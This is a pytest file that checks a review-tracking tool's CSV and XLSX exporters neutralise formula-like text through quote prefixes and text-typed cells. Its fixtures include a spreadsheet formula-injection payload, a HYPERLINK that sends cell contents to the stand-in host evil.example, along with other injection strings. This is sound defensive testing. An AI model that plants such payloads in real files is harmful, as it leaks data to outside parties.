"""Text a spreadsheet would run is written as text by every CSV and XLSX writer (tracker.safe_cells).

The attack: a review id typed as text ``=HYPERLINK("http://evil.example/?leak="&A1,"click")``. Each
CLI export is made from a real workbook and opened again with openpyxl (formulas are kept as
formulas by openpyxl: a formula cell has data_type "f").
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from tracker.cli import main
from tracker.registry import get_framework
from tracker.safe_cells import csv_value, is_formula_like, xlsx_value

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
IDS = [EVIL, "+1+2", "@SUM(A1)", "-2+3", "  =1+1", "\t=1"]


def _source(tmp_path: Path) -> Path:
    """A workbook whose review ids are formula-like *text* cells, half with a problem too."""
    fw = get_framework("england-scr")
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = fw.sheet
    ws.append([f.header for f in fw.all_fields])
    col = {f.id: i + 1 for i, f in enumerate(fw.all_fields)}
    for r, rid in enumerate([*IDS, "NS-2023-01"], start=2):
        cell = ws.cell(r, col["review_id"], rid)
        cell.data_type = "s"  # typed as text by the officer, not a formula
        ws.cell(r, col["notified"], datetime(2023, 6, 12))
        if r % 2:
            ws.cell(r, col["decision"], "31/02/2024")  # a problem that quotes the id
    path = tmp_path / "board.xlsx"
    wb.save(path)
    return path


def _formulas(path: Path) -> list[str]:
    wb = load_workbook(path)
    return [
        f"{ws.title}!{c.coordinate}={c.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", IDS + ["\r=1", "\n=1", " -1"])
def test_formula_like_text_is_recognised(text: str) -> None:
    assert is_formula_like(text)
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("text", ["NS-2023-01", "", "a=b", "2024-03-01", "e-mail"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert not is_formula_like(text)
    assert csv_value(text) == text


def test_dates_and_numbers_stay_what_they_are() -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    assert xlsx_value(ws, 3) == 3
    assert xlsx_value(ws, date(2024, 3, 1)) == date(2024, 3, 1)
    assert csv_value(-3) == -3
    cell = xlsx_value(ws, EVIL)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL, "s", True)


def test_validate_problems_xlsx_has_no_live_formula(tmp_path: Path) -> None:
    source = _source(tmp_path)
    out = tmp_path / "problems.xlsx"
    result = CliRunner().invoke(main, ["validate", str(source), "--output", str(out)])
    assert result.exit_code == 1, result.output
    assert _formulas(out) == []
    ids = {c.value for c in load_workbook(out)["Problems"]["F"]}
    assert EVIL in ids  # still there, as text
    assert "<f>" not in _xml(out)


def test_check_xlsx_has_no_live_formula(tmp_path: Path) -> None:
    source = _source(tmp_path)
    out = tmp_path / "check.xlsx"
    args = ["check", str(source), "--format", "xlsx", "--output", str(out), "--as-of", "2024-03-01"]
    result = CliRunner().invoke(main, args)
    assert result.exit_code in (0, 1), result.output
    assert _formulas(out) == []
    wb = load_workbook(out)
    stage_ids = {c.value for c in wb["Stages"]["D"]}
    assert EVIL in stage_ids
    latest = [c.value for c in wb["Stages"]["L"][1:] if c.value is not None]
    assert latest and all(isinstance(v, datetime) for v in latest)  # dates stay dates


def test_check_csv_quotes_every_formula_like_field(tmp_path: Path) -> None:
    source = _source(tmp_path)
    args = ["check", str(source), "--format", "csv", "--as-of", "2024-03-01"]
    result = CliRunner().invoke(main, args)
    assert result.exit_code in (0, 1), result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    ids = {r["review_id"] for r in rows}
    assert ids == {"'" + i.strip() for i in IDS} | {"NS-2023-01"}
    for row in rows:
        for value in row.values():
            assert not is_formula_like(value or ""), row
